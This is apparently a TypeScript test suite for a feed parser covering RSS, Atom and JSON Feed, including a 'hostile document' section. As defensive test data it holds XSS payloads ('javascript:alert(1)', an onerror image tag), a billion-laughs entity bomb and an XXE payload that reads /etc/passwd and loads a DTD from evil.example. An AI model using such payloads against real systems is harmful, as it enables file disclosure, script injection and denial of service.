import * as fc from "fast-check";
import {
  generateAtomFeed,
  generateJsonFeed,
  generateRssFeed,
  parseFeed as parseByFeedsmith,
} from "feedsmith";
import { describe, expect, it } from "vitest";
import { systemClock } from "../../engine/system-clock.ts";
import { listEntries } from "./list-entries.ts";
import { parseFeed } from "./parse-feed.ts";

const now = Date.UTC(2026, 10, 22);
const documentUrl = "https://doc.example/feed/all.xml";

const read = async (text: string, max = 100) => {
  const parsed = await parseFeed(text, documentUrl, systemClock);
  if (parsed.kind === "invalid") throw new Error(parsed.problem);
  return listEntries(parsed.feed, documentUrl, { now, max });
};

const problem = async (text: string): Promise<string> => {
  const parsed = await parseFeed(text, documentUrl, systemClock);
  return parsed.kind === "invalid" ? parsed.problem : "";
};

const rss = (items: string, channel = "") =>
  `<rss version="2.0"><channel><title>T</title>${channel}${items}</channel></rss>`;

const atom = (entries: string, attributes = "") =>
  `<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" ${attributes}><title>T</title>${entries}</feed>`;

const date = Date.UTC(2026, 10, 21, 1);

describe("parseFeed", () => {
  it.each([
    [
      "RSS 2.0",
      rss(`<item><guid isPermaLink="false"> a </guid><title>One &amp;amp; two</title><link>https://a.example/1</link>
        <description><![CDATA[<p>Hello <b>wor</b>ld</p>]]></description><pubDate>Sat, 21 Nov 2026 10:00:00 +0900</pubDate></item>`),
      { id: "a", title: "One & two", url: "https://a.example/1", summary: "Hello world", publishedAt: date },
    ],
    [
      "RSS 0.91 with its DTD",
      `<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/rss-0.91.dtd">
        <rss version="0.91"><channel><item><title>One</title><link>https://a.example/1</link></item></channel></rss>`,
      { id: "https://a.example/1", title: "One", url: "https://a.example/1" },
    ],
    [
      "RSS 0.90",
      `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://my.netscape.com/rdf/simple/0.9/">
        <channel><title>T</title></channel><item><title>One</title><link>https://a.example/1</link></item></rdf:RDF>`,
      { id: "https://a.example/1", title: "One", url: "https://a.example/1" },
    ],
    [
      "RSS 1.0",
      `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:d="http://purl.org/dc/elements/1.1/">
        <channel rdf:about="x"><title>T</title><items><rdf:Seq><rdf:li resource="r"/></rdf:Seq></items></channel>
        <item rdf:about="r"><title>One</title><link>https://a.example/1</link><d:date>2026-11-21T10:00+09:00</d:date></item></rdf:RDF>`,
      { id: "r", title: "One", url: "https://a.example/1", publishedAt: date },
    ],
    [
      "Atom 1.0",
      atom(`<entry><id>tag:a</id><title type="html">&lt;i&gt;One&lt;/i&gt;</title><link rel="self" href="https://b.example"/>
        <link href="https://a.example/1"/><source><title>No</title><id>no</id></source>
        <summary type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Hello</p><p>world</p></div></summary>
        <published>2026-11-21T01:00:00Z</published><updated>2026-11-21T02:00:00Z</updated></entry>`),
      { id: "tag:a", title: "One", url: "https://a.example/1", summary: "Hello world", publishedAt: date },
    ],
    [
      "Atom 0.3, with prefixes",
      `<a:feed xmlns:a="http://purl.org/atom/ns#" version="0.3"><a:title>T</a:title><a:entry><a:id>1</a:id><a:title>x &lt; y</a:title>
        <a:link rel="alternate" type="text/html" href="https://a.example/1"/><a:issued>2026-11-21T01:00:00Z</a:issued></a:entry></a:feed>`,
      { id: "1", title: "x < y", url: "https://a.example/1", publishedAt: date },
    ],
    [
      "JSON Feed",
      JSON.stringify({
        version: "https://jsonfeed.org/version/1.1",
        title: "T",
        items: [
          {
            id: 7,
            url: "/1",
            title: "<b>",
            content_html: "<p>Hello",
            date_published: "2026-11-21T01:00:00Z",
          },
        ],
      }),
      { id: "7", title: "<b>", url: "https://doc.example/1", summary: "Hello", publishedAt: date },
    ],
    [
      "RSS with modules",
      `<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
        <image><title>No</title></image><item><media:title>No</media:title><guid>https://a.example/1</guid><title>One</title>
        <media:group><media:description>No</media:description></media:group><content:encoded>All of it</content:encoded></item></channel></rss>`,
      { id: "https://a.example/1", title: "One", url: "https://a.example/1", summary: "All of it" },
    ],
  ])("reads %s", async (_format, text, entry) => expect(await read(text)).toEqual([entry]));

  it("takes links from xml:base, the feed's site, or the feed's address", async () => {
    const one = `<item><title>a</title><link>b?c</link></item>`;
    expect((await read(rss(one)))[0]?.url).toBe("https://doc.example/feed/b?c");
    expect((await read(rss(one, "<link>https://site.example/news/</link>")))[0]?.url).toBe(
      "https://site.example/news/b?c",
    );
    const based = `<entry xml:base="y/"><id>1</id><link href="z"/></entry>`;
    expect((await read(atom(based, 'xml:base="http://b.example/x/"')))[0]?.url).toBe(
      "http://b.example/x/y/z",
    );
    expect((await read(atom(based)))[0]?.url).toBe("https://doc.example/feed/y/z");
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " java\nscript:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "file:///etc/passwd",
    "ftp://a.example",
    "http://[",
    "//",
  ])("drops the link %j", async (link) => {
    const [entry] = await read(
      rss(`<item><guid isPermaLink="false">1</guid><link><![CDATA[${link}]]></link></item>`),
    );
    expect(entry).toEqual({ id: "1", title: "–" });
  });

  it("hides user and password of a link", async () => {
    expect((await read(rss("<item><link>https://u:p@a.example/</link></item>")))[0]?.url).toBe(
      "https://a.example/",
    );
  });

  it("makes plain text of markup, characters and controls", async () => {
    const of = async (title: string) =>
      (await read(rss(`<item><guid>1</guid><title><![CDATA[${title}]]></title></item>`)))[0]?.title;
    expect(await of("<b>a</b>b<br>c &eacute;&#x706B;&#146;&nope;")).toBe("ab c é火’&nope;");
    expect(await of("a\u0000b\u202Ec\td\n e")).toBe("a b c d e");
    expect(await of("List<String> & 1 < 2 <3")).toBe("List<String> & 1 < 2 <3");
    expect(await of("a<script>alert(1)</script>b<style>x</style><!-- c -->d")).toBe("a b d");
    expect(await of("<img src=x onerror=alert(1)>")).toBe("–");
    expect(await of("&lt;script&gt;")).toBe("<script>");
    expect(await of("x".repeat(500))).toHaveLength(200);
  });

  it("has each id once, the newest of them; without id by address, without both by what it says", async () => {
    const item = (id: string, day: number, title: string) =>
      `<item><guid isPermaLink="false">${id}</guid><title>${title}</title><pubDate>${day} Nov 2026 00:00:00 GMT</pubDate></item>`;
    const entries = await read(rss(item("a", 1, "old") + item("b", 3, "b") + item("a", 2, "new")));
    expect(entries.map(({ id, title }) => `${id} ${title}`)).toEqual(["b b", "a new"]);
    const bare = await read(
      rss("<item><title>a</title></item><item><title>b</title></item><item><title>a</title></item>"),
    );
    expect(bare.map(({ id }) => id)).toEqual([
      expect.stringMatching(/^sha256:/),
      expect.stringMatching(/^sha256:/),
    ]);
    const [long] = await read(rss(`<item><guid>${"x".repeat(5000)}</guid></item>`));
    expect(long?.id).toMatch(/^sha256:[\da-f]{64}$/);
  });

  it("does not believe dates of the future, nor what is no date", async () => {
    const dated = async (text: string) =>
      (await read(rss(`<item><guid>1</guid><pubDate>${text}</pubDate></item>`)))[0]?.publishedAt;
    expect(await dated("Sun, 22 Nov 2026 00:05:00 GMT")).toBe(now + 300_000);
    for (const text of [
      "Sun, 22 Nov 2026 01:00:00 GMT",
      "2999-01-01T00:00:00Z",
      "yesterday",
      "31 Feb 2026",
      "",
      "0",
      "1969-01-01",
    ])
      expect(await dated(text)).toBeUndefined();
  });

  it("keeps the newest, and the order of the feed where dates are missing", async () => {
    const item = (id: number, day?: number) =>
      `<item><guid>${id}</guid>${day ? `<pubDate>${day} Nov 2026</pubDate>` : ""}</item>`;
    const ids = async (items: string) => (await read(rss(items), 2)).map(({ id }) => id);
    expect(await ids(item(1, 1) + item(2, 3) + item(3, 2))).toEqual(["2", "3"]);
    expect(await ids(item(1, 1) + item(2) + item(3, 2))).toEqual(["1", "2"]);
  });
});

describe("what is no feed", () => {
  it.each([
    ["", /^it is empty$/],
    ["hello", /neither XML nor JSON/],
    [
      "<!DOCTYPE html><html><head><title>x</title></head><body>",
      /^it is an HTML page, not a feed: look for the feed's own address$/,
    ],
    [
      `<html><head><link rel="alternate" type="application/rss+xml" href="/f?a=1&amp;b=2"></head>`,
      /: it names https:\/\/doc\.example\/f\?a=1&b=2 as its feed$/,
    ],
    ["<opml version='2.0'><body/></opml>", /^it is XML, but <opml> is no feed$/],
    ["<svg/>", /<svg> is no feed/],
    ["<rdf:RDF xmlns:rdf='urn:else'/>", /is no feed/],
    ["<rss><channel><item>", /^its XML is broken: it ends inside <item> \(line 1\)$/],
    ["<rss version='2.0'>\n<channel>\n<item></channel></rss>", /<\/channel> closes <item> \(line 3\)/],
    ["<rss><channel><title>a", /it ends inside <title>/],
    ["<rss><channel><title", /it ends inside a tag/],
    ["<rss><channel><![CDATA[x", /it ends inside CDATA/],
    ["<rss><channel><!-- x", /it ends inside a comment/],
    [`<rss><channel a="x>`, /it ends inside an attribute/],
    ["<!DOCTYPE rss [", /it ends inside a declaration/],
    ["<?xml version='1.0'?><!-- nothing -->", /it has no element/],
    [rss("") + rss(""), /<rss> follows the end/],
    ['{"version": "https://jsonfeed.org/version/1", "items": [', /^its JSON is broken: /],
    ['{"items": []}', /`version` is not that of a JSON Feed/],
    ['{"version": "https://jsonfeed.org/version/1"}', /has no `items`/],
    ["[1]", /has no `items`/],
  ])("is said of %j", async (text, words) => expect(await problem(text)).toMatch(words));
});

describe("a hostile document", () => {
  const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`);
  const bomb = `<!DOCTYPE rss [<!ENTITY a0 "lol">${entities.join("")}]>${rss("<item><guid>1</guid><title>&a9;</title></item>")}`;
  const external = `<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"> <!ENTITY % y SYSTEM "http://evil.example/x.dtd"> %y;]>${rss("<item><guid>1</guid><title>&x;</title></item>")}`;

  it("has no entity of its own", async () => {
    expect(await read(bomb)).toMatchObject([{ title: "&a9;" }]);
    expect(await read(external)).toMatchObject([{ title: "&x;" }]);
  });

  it("does not nest without end", async () => {
    expect(await problem(rss("<a>".repeat(100_000)))).toMatch(/nested deeper than 500 elements/);
    expect(await problem("[".repeat(1_000_000))).toMatch(/JSON is broken/);
  });

  it.each<[string, (bytes: number) => string]>([
    ["many entries", (n) => rss("<item><guid>1</guid></item>".repeat(n / 27))],
    ["empty entries", (n) => rss("<item/>".repeat(n / 7))],
    ["many tags", (n) => rss("<a/>".repeat(n / 4))],
    ["open brackets", (n) => `<rss><channel><title>${"<".repeat(n)}`],
    ["ampersands", (n) => rss(`<item><title>${"&".repeat(n)}</title></item>`)],
    ["references", (n) => rss(`<item><title>${"&amp;".repeat(n / 5)}</title></item>`)],
    ["comments", (n) => `<rss>${"<!--".repeat(n / 4)}`],
    ["attributes", (n) => `<rss ${"a='b' ".repeat(n / 6)}>`],
    ["quotes", (n) => `<rss a=${'"'.repeat(n)}`],
    ["spaces in a tag", (n) => `<rss ${" ".repeat(n)}x`],
    ["brackets of a document type", (n) => `<!DOCTYPE a [>${"]".repeat(n)}`],
    [
      "namespaces",
      (n) =>
        rss(
          `<a ${Array.from({ length: 50 }, (_, at) => `xmlns:a${at}="x"`).join(" ")}>`.repeat(400) +
            "<b xmlns:q='1'/>".repeat(n / 16),
        ),
    ],
    [
      "scripts in HTML",
      (n) => rss(`<item><description>${"&lt;script>".repeat(2000)}</description></item>`.repeat(n / 22_000)),
    ],
    ["links in a page", (n) => `<html>${"<link ".repeat(n / 6)}`],
    ["dates", (n) => rss(`<item><pubDate>${"1 ".repeat(60)}</pubDate></item>`.repeat(n / 150))],
  ])("of a megabyte of %s is read in no time", async (_what, make) => {
    const text = make(1_000_000);
    const began = performance.now();
    const parsed = await parseFeed(text, documentUrl, systemClock);
    if (parsed.kind === "feed") listEntries(parsed.feed, documentUrl, { now, max: 100 });
    expect(performance.now() - began).toBeLessThan(4000);
  });

  const piece = fc.constantFrom(
    "<rss>",
    "<channel>",
    "<item>",
    "</item>",
    "<a b='",
    "'",
    '"',
    "<![CDATA[",
    "]]>",
    "<!--",
    "-->",
    "<!DOCTYPE x [",
    "]>",
    "&#",
    "&amp;",
    ";",
    "<?",
    "?>",
    "</",
    ">",
    "<",
    "/",
    "x",
    " ",
    "=",
    "火",
    "\0",
    "\uD800",
    "<feed xmlns='http://www.w3.org/2005/Atom'>",
    "<entry>",
    "<link href='",
    "{",
    '"items":',
    "[",
  );

  it("is read without an error, whatever it is", async () => {
    const hostile = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.array(piece, { maxLength: 60 }).map((pieces) => pieces.join("")),
      fc.array(piece, { maxLength: 60 }).map((pieces) => `<rss><channel>${pieces.join("")}`),
      fc.json(),
    );
    await fc.assert(
      fc.asyncProperty(hostile, async (text) => {
        const parsed = await parseFeed(text, documentUrl, systemClock);
        if (parsed.kind === "feed") listEntries(parsed.feed, documentUrl, { now, max: 100 });
      }),
      { numRuns: 1000 },
    );
  });
});

describe("feedsmith as the oracle", () => {
  const word = fc
    .stringMatching(/^[A-Za-z0-9火の見é&<>"' ]{1,20}$/)
    .map((text) => text.replaceAll(/\s+/g, " ").trim())
    .filter((text) => text !== "");
  const path = fc.stringMatching(/^[a-z0-9]{1,10}$/);
  const when = fc.integer({ min: 1, max: now / 1000 - 1 }).map((seconds) => new Date(seconds * 1000));
  const items = fc.uniqueArray(fc.record({ id: path, title: word, when }), {
    selector: ({ id }) => id,
    maxLength: 8,
  });
  const expected = (list: readonly { readonly id: string; readonly title: string; readonly when: Date }[]) =>
    list
      .toSorted((left, right) => right.when.getTime() - left.when.getTime())
      .map(({ id, title, when }) => ({
        id,
        title,
        url: `https://a.example/${id}`,
        publishedAt: when.getTime(),
      }));
  const url = (id: string) => `https://a.example/${id}`;

  it("writes RSS that is read as meant", () =>
    fc.assert(
      fc.asyncProperty(items, async (all) => {
        // Titles of RSS are HTML: <a> in them is a tag.
        const list = all.map((item) => ({ ...item, title: item.title.replaceAll("<", "(") }));
        const text = generateRssFeed({
          title: "T",
          link: "https://a.example",
          description: "D",
          items: list.map(({ id, title, when }) => ({
            title,
            link: url(id),
            guid: { value: id, isPermaLink: false },
            pubDate: when,
          })),
        });
        expect(await read(text)).toEqual(expected(list));
      }),
    ));

  it("writes Atom that is read as meant", () =>
    fc.assert(
      fc.asyncProperty(items, async (list) => {
        const text = generateAtomFeed({
          id: "x",
          title: { value: "T" },
          updated: new Date(0),
          entries: list.map(({ id, title, when }) => ({
            id,
            title: { value: title },
            links: [{ href: url(id) }],
            updated: when,
          })),
        });
        expect(await read(text)).toEqual(expected(list));
      }),
    ));

  it("writes JSON Feeds that are read as meant", () =>
    fc.assert(
      fc.asyncProperty(
        items.filter(({ length }) => length > 0),
        async (list) => {
          const document: unknown = generateJsonFeed({
            title: "T",
            items: list.map(({ id, title, when }) => ({
              id,
              title,
              url: url(id),
              content_text: "",
              date_published: when,
            })),
          });
          expect(await read(JSON.stringify(document))).toEqual(expected(list));
        },
      ),
    ));

  it("reads the same ids and links", async () => {
    const text = rss(
      `<item><guid isPermaLink="false">a</guid><title>A</title><link>https://a.example/a</link></item><item><guid isPermaLink="false">b</guid><link>https://a.example/b</link></item>`,
    );
    const { feed } = parseByFeedsmith(text);
    const theirs = "items" in feed ? (feed.items ?? []) : [];
    expect((await read(text)).map(({ id, url }) => [id, url])).toEqual(
      theirs.map((item) => [
        "guid" in item ? item.guid?.value : undefined,
        "link" in item ? item.link : undefined,
      ]),
    );
  });
});
